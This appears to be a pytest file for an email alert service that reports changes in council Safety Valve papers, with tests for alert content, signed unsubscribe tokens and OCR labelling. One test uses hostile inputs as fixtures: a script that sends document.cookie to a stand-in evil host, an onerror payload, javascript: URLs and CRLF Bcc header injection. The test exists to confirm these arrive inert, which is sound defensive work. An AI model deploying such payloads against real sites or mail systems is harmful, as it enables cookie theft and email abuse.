"""What an alert says, and that hostile scraped text arrives inert in both parts and the headers."""

from __future__ import annotations

import datetime as dt
import re
import stat
from urllib.parse import parse_qs, urlsplit

from alerts_support import Papers
from sqlalchemy import select

from alerts import queue_alerts, send_pending, subscribe, update_statuses
from sendwatch.core.registry import sync_councils
from sendwatch.core.storage.models import Council, DocumentPage
from sendwatch.core.tokens import make_token, read_token, signing_secret

D = dt.date
READER = "education.desk@northshire-gazette.example"


def deliver_one_change(
    config,
    database,
    *,
    title: str,
    quote: str,
    url: str | None = None,
    council_name: str | None = None,  # type: ignore[no-untyped-def]
    papers_url: str | None = None,
    scanned: bool = False,
):
    """Baseline, then one off-track paper (``scanned``: its quoted page read by OCR); send the alert."""
    with database.session() as session:
        sync_councils(session, config)
        subscribe(session, READER, councils=["northshire"])
        papers = Papers(session)
        north = papers.council("northshire")
        first = papers.document(north, "Safety Valve quarter 2 monitoring", meeting=D(2024, 10, 10))
        papers.evidence(first, "sv_on_track", "The authority remains on track against the trajectory in its agreement.", page=4)
        update_statuses(session)
    with database.session() as session:
        papers = Papers(session)
        north = session.scalars(select(Council).where(Council.slug == "northshire")).one()
        if council_name:
            north.name = council_name
        if papers_url:
            north.base_url = papers_url
        later = papers.document(north, title, meeting=D(2025, 1, 16), url=url)
        if scanned:
            session.add(DocumentPage(document_id=later.id, page_number=6, text=quote, text_source="ocr"))
        papers.evidence(later, "sv_off_track", quote, page=6)
        papers.figure(later, 4_700_000, "£4.7m", "off track by", page=6, year="2024/25")
        queue_alerts(session, config, update_statuses(session))
    assert send_pending(config, database).sent == 1


def parts(received):  # type: ignore[no-untyped-def]
    message = received.message
    return message.get_body(("html",)).get_content(), message.get_body(("plain",)).get_content()


def test_an_alert_names_the_change_quotes_the_paper_and_links_to_it(smtp_config, smtp_server, database):
    _, config = smtp_config()
    deliver_one_change(
        config,
        database,
        title="Safety Valve quarter 3 monitoring return",
        quote="The latest return shows the council is behind its agreed trajectory and is no longer on track.",
    )
    (received,) = smtp_server.handler.to(READER)
    html, text = parts(received)
    message = received.message

    assert message["Subject"] == "Northshire County Council: now Safety valve: off track"
    for part in (html, text):
        assert "Safety valve: on track" in part and "Safety valve: off track" in part  # old and new
        assert "behind its agreed trajectory" in part and "page 6" in part
        assert re.search(r"https://democracy\.northshire\.example\.gov\.uk/documents/s\d+/report\.pdf#page=6", part)
        assert "£4.7m" in part and "off track by" in part
        assert "https://democracy.northshire.example.gov.uk/" in part  # the council's papers
        assert "16 January 2025" in part


def test_every_alert_carries_signed_one_click_unsubscribe_and_a_manage_link(smtp_config, smtp_server, database):
    _, config = smtp_config()
    deliver_one_change(
        config, database, title="Quarter 3 return", quote="The council is no longer on track against its agreement."
    )
    (received,) = smtp_server.handler.to(READER)
    html, text = parts(received)

    assert received.message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    unsubscribe_url = re.fullmatch(
        r"<(https://sendwatch\.example\.org/unsubscribe\?token=[^>]+)>", received.message["List-Unsubscribe"]
    ).group(1)
    token = parse_qs(urlsplit(unsubscribe_url).query)["token"][0]
    claims = read_token(signing_secret(config), token, "unsubscribe")
    assert claims is not None and claims.email == READER
    assert read_token(signing_secret(config), token, "manage") is None  # a token does one job
    assert read_token(signing_secret(config), token[:-2] + ("A" if token[-2] != "A" else "B") + token[-1], "unsubscribe") is None
    for part in (html, text):
        assert unsubscribe_url in part
        assert "https://sendwatch.example.org/manage?token=" in part


def test_scripts_javascript_links_and_header_injection_arrive_inert(smtp_config, smtp_server, database):
    _, config = smtp_config()
    deliver_one_change(
        config,
        database,
        title='Quarter 3 return\r\nBcc: victim@example.org\r\n<script>alert("title")</script>',
        quote='The council is not on track <script>document.location="https://evil.example/?"+document.cookie</script> <img src=x onerror=alert(1)>.',
        url="javascript:alert(document.cookie)",
        council_name="Northshire County Council\r\nBcc: victim@example.org\nX-Injected: yes",
        papers_url="javascript:alert('papers')",
    )
    (received,) = smtp_server.handler.to(READER)
    html, text = parts(received)
    headers = received.message

    assert headers["Bcc"] is None and headers["X-Injected"] is None
    assert received.recipients == [READER]
    assert "\n" not in headers["Subject"] and "\r" not in headers["Subject"]
    assert "Bcc: victim@example.org" in headers["Subject"]  # folded into the subject's text, harmless
    assert "<script" not in html.lower() and "<img" not in html.lower()
    assert "&lt;script&gt;" in html
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE)
    assert "javascript:alert(document.cookie)" not in html and "javascript:alert(document.cookie)" not in text
    assert "javascript:alert('papers')" not in text and "alert(&#39;papers&#39;)" not in html
    assert not any(line.lower().startswith("bcc:") for line in text.splitlines())


def test_the_signing_secret_is_generated_once_in_a_private_file_when_none_is_set(write_config, monkeypatch, tmp_path):
    monkeypatch.delenv("SENDWATCH_SECRET", raising=False)
    _, config = write_config()

    secret = signing_secret(config)
    path = tmp_path / "data" / "secret.key"

    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert signing_secret(config) == secret and len(secret) >= 32
    token = make_token(secret, 7, "reader@example.org", "manage")
    assert read_token(secret, token, "manage").subscriber_id == 7
    monkeypatch.setenv("SENDWATCH_SECRET", "from-the-environment")
    assert read_token(signing_secret(config), token, "manage") is None  # the environment wins


def test_evidence_read_by_ocr_from_a_scan_says_so_in_both_parts(smtp_config, smtp_server, database):
    _, config = smtp_config()
    deliver_one_change(
        config,
        database,
        title="Letter from the DfE (scanned)",
        scanned=True,
        quote="The council is behind its agreed trajectory and is no longer on track.",
    )
    (received,) = smtp_server.handler.to(READER)
    html, text = parts(received)
    assert "Letter from the DfE (scanned), page 6, 16 January 2025 (read by OCR from a scan" in text
    assert "read by OCR from a scan" in html


def test_evidence_from_a_text_page_says_nothing_of_ocr(smtp_config, smtp_server, database):
    _, config = smtp_config()
    deliver_one_change(
        config, database, title="Quarter 3 return", quote="The council is behind its agreed trajectory and is no longer on track."
    )
    (received,) = smtp_server.handler.to(READER)
    assert not any("OCR" in part for part in parts(received))
